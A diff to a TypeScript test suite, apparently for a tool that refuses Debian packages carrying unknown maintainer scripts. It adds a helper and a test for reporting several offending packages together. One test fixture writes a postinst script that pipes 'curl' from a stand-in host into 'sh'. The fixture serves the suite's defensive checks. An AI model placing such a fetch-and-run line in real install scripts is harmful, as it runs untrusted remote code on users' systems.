@@ -187,6 +187,12 @@ describe('a .deb that would leave its place is refused', () => {
   });
 });
 
+/** A package with a script of its own. */
+const withScript = async (name: string): Promise<DebFile> => {
+  const control = [{ name: './preinst', content: `#!/bin/sh\nmystery ${name}\n` }];
+  return writeDeb(join(at, `${name}.deb`), name, ar(await debMembers(name, [], control)));
+};
+
 describe('a set of .debs is refused', () => {
   it('when a script is unknown: by package, script and hash', async () => {
     const content = '#!/bin/sh\nset -e\ncurl -s example.invalid | sh\n';
@@ -194,6 +200,11 @@ describe('a set of .debs is refused', () => {
     expect(said).toContain('RIG-LAYERS-DEB-003 odd 1.0');
     expect(said).toContain('postinst');
     expect(said).toContain(sha256Hex(content));
+  });
+
+  it('when several are: all of them at once', async () => {
+    const said = await refusal([await withScript('one'), await withScript('two')]);
+    expect(said).toMatch(/DEB-003 2 packages .*\n {2}one 1\.0 has a preinst.*\n {2}two 1\.0 has a preinst/);
   });
 
   it('but not for scripts that never run on a fresh install', async () => {
